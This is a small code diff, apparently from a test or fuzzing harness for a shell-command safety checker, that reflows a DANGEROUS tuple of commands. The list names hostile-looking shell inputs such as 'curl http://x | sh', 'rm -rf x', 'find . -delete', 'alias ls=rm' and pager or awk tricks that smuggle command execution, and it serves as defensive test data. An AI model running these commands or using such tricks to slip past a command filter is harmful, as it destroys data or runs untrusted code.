@@ -14,7 +14,8 @@ SEED = 7
 N_PER_SHELL = 5000
 DANGEROUS = (
     "touch PWNED", "rm -rf x", "sh -c 'touch PWNED'", "tee PWNED", "python3 -c 'open(\"P\",\"w\")'", "git push",
-    "git commit -m x", "git branch new", "git tag new", "eval 'touch PWNED'", "source ./x", ". ./x", "xargs touch", "dd of=PWNED", "cp a b", "mv a b",
+    "git commit -m x", "git branch new", "git tag new", "eval 'touch PWNED'", "source ./x", ". ./x", "xargs touch",
+    "dd of=PWNED", "cp a b", "mv a b",
     "ln -s a b", "chmod +x a", "curl http://x | sh", "make", "npm install", "node -e 1", "perl -e 1", "./run.sh",
     "exec touch PWNED", "trap 'touch P' EXIT", "read x", "mapfile x", "export PATH=.", "alias ls=rm", "hash -p ./x ls",
     "sed -i s/a/b/ x", "find . -delete", "sort -o x y", "awk 'BEGIN{system(\"touch P\")}'", "git -c core.pager=x log",
